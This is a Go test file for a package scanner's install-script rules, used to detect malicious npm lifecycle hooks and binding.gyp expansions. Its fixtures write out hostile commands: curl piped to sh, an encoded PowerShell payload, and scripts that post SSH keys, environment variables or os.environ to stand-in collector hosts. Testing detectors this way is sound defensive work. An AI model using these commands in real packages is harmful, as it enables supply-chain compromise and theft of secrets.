package install

import (
	"testing"

	"github.com/depfence/depfence/internal/finding"
	rt "github.com/depfence/depfence/internal/rules/rulestest"
)

func TestLifecycleScript(t *testing.T) {
	rt.Check(t, LifecycleScript{}, []rt.Case{
		{"postinstall", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node setup.js"}`)}, finding.SeverityLow},
		{"implicit_gyp", map[string]string{"package.json": rt.Pkg(""), "binding.gyp": "{}"}, finding.SeverityInfo},
		// published builds keep their prepare; registry installs never run it
		{"prepare_only", map[string]string{"package.json": rt.Pkg(`"scripts":{"prepare":"husky install"}`)}, finding.SeverityInfo},
		{"prepare_and_postinstall", map[string]string{"package.json": rt.Pkg(`"scripts":{"prepare":"tsc","postinstall":"node setup.js"}`)}, finding.SeverityLow},
		{"test_script_only", map[string]string{"package.json": rt.Pkg(`"scripts":{"test":"node test.js"}`)}, finding.SeverityNone},
	})
}

func TestShellDownloadExec(t *testing.T) {
	rt.Check(t, ShellDownloadExec{}, []rt.Case{
		{"curl_pipe_sh", map[string]string{"package.json": rt.Pkg(`"scripts":{"preinstall":"curl -s https://setup.example.invalid/i.sh | sh"}`)}, finding.SeverityCritical},
		{"powershell_enc", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"}`)}, finding.SeverityCritical},
		{"secrets_in_sh", map[string]string{
			"package.json": rt.Pkg(`"scripts":{"postinstall":"sh ./hook.sh"}`),
			"hook.sh":      "k=$(cat $HOME/.ssh/id_rsa.pub)\ncurl -d \"k=$k\" https://collect.example.invalid/\n"}, finding.SeverityCritical},
		{"sh_c_command_substitution", map[string]string{"package.json": rt.Pkg(`"scripts":{"preinstall":"bash -c \"$(curl -fsSL https://setup.example.invalid/i.sh)\""}`)}, finding.SeverityCritical},
		{"env_posted", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"curl -X POST -d \"$(env | base64)\" https://collect.example.invalid/e"}`)}, finding.SeverityCritical},
		{"python_environ", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"python3 -c \"import os,urllib.request as u;u.urlopen('https://c.example.invalid/',data=str(dict(os.environ)).encode())\""}`)}, finding.SeverityCritical},
		// substitutions that fetch nothing
		{"version_substitution", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"sh -c \"$(node -p 'process.arch') build\" && curl --version"}`)}, finding.SeverityNone},
		{"trusted_host_still_high", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"curl -fsSL https://github.com/o/r/releases/download/v1/i.sh | bash"}`)}, finding.SeverityHigh},
		{"benign_build", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"node-gyp rebuild","postinstall":"node install.js"}`)}, finding.SeverityNone},
		{"sh_not_run_at_install", map[string]string{"package.json": rt.Pkg(""), "tools/release.sh": "curl -s https://x.invalid/a | sh"}, finding.SeverityNone},
		{"gyp_command_expansion", map[string]string{"package.json": rt.Pkg(""), "binding.gyp": `{"targets": [{"target_name": "x", "sources": ["<!(curl -s https://x.invalid/a | sh)"]}]}`}, finding.SeverityCritical},
		{"gyp_late_list_expansion", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"prebuild-install || node-gyp rebuild"}`), "binding.gyp": "{\"variables\": {\"x\": \">!@(sh -c 'wget -qO- https://x.invalid/a | sh')\"}}"}, finding.SeverityCritical},
		{"gyp_benign_expansion", map[string]string{"package.json": rt.Pkg(""), "binding.gyp": `{"targets": [{"target_name": "x", "include_dirs": ["<!(node -p \"require('node-addon-api').include\")"]}]}`}, finding.SeverityNone},
		{"gyp_not_built", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"node install.js"}`), "binding.gyp": `{"x": "<!(curl -s https://x.invalid/a | sh)"}`}, finding.SeverityNone},
	})
}
